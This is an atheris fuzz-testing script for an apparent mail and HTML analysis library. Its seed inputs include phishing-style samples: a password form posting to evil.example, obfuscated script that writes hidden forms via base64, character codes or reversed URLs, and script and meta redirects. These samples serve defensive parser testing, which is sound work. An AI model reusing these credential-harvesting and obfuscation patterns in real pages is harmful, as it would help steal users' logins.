"""Coverage-guided fuzzing of pages: attached ones, their scripts' literals, bodies, drawn codes.

python tests/fuzz/fuzz_html.py -max_total_time=600 -rss_limit_mb=300 -timeout=5
"""

from __future__ import annotations

import sys
import tempfile
from pathlib import Path

import atheris

with atheris.instrument_imports(include=["firstsight.mail.inside", "firstsight.mail.text"]):
    from firstsight.mail.inside import TRAITS, File
    from firstsight.mail.inside.blocks import codes_in_markup
    from firstsight.mail.inside.literals import files, packed, pieces
    from firstsight.mail.inside.markup import data_files, open_markup, open_web_archive
    from firstsight.mail.text.html import read_html

SEEDS = (
    '<form action="https://evil.example/p"><input type=password placeholder=x></form>',
    '<script>document.write(atob("PGZvcm0gYWN0aW9uPWh0dHBzOi8vZXZpbC5leGFtcGxlLz4="))</script>',
    "<script>x=[63,105,114,117,112,35,100,102,119,108,114,113,64,107,119,119,115];w(unescape('%3Cform%3E'))</script>",
    '<svg><script>location="https://evil.example/s"</script></svg>',
    '<meta http-equiv=refresh content="0;url=http://a.example/">',
    f'<img src="data:image/png;base64,{"iVBORw0KGgo" * 12}"><table><tr><td bgcolor=#000></table>',
    '<div style="display:none">x</div><p hidden>y</p>',
    "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<form>\n--b--\n",
    "<script>s='<form>';s+='x';w('~3c~66~6f~72~6d~3e~41~42~43~44'.replace(/~/g,'%'));w('3c666f726d3e3c666f726d3e3c66')</script>",
    "<script>atob('UEsDBBQAAAAAAAAAIQAAAAAAAAAAAAAAAAAFAAAAYS50eHRQSwECFAAUAAAAAAAAACEAAAAAAAAAAAAAAAAABQAAAA==')</script>",
    "<script>a='\\x3c\\u0066orm';b='moc.elpmaxe//:ptth'.split('').reverse();c=`<p>`+\"q\"</script>",
)
"""Pages of the kinds that are looked for."""


def one_input(octets: bytes) -> None:
    """The law that is fuzzed."""
    inside = open_markup.open(File("a.html", "text/html", "text/html", octets))
    assert set(inside.traits) <= set(TRAITS)
    assert len(inside.links) <= 300
    assert len(inside.text) <= 20_000
    text = octets.decode("utf-8", "replace")
    pieces(text)
    assert all(files(text))
    assert packed(text) <= len(text) * 2
    assert set(open_web_archive.open(File("a.mht", "", "message/rfc822", octets)).traits) <= set(TRAITS)
    codes_in_markup(text)
    assert len(data_files(text)) <= 5
    read_html(text, 50)


def main() -> None:
    """Runs libFuzzer with the seeds and the given options."""
    with tempfile.TemporaryDirectory() as folder:
        for number, page in enumerate(SEEDS):
            Path(folder, str(number)).write_text(page, encoding="utf-8")
        atheris.Setup([sys.argv[0], "-max_len=8192", *sys.argv[1:], folder], one_input)
        atheris.Fuzz()


if __name__ == "__main__":
    main()
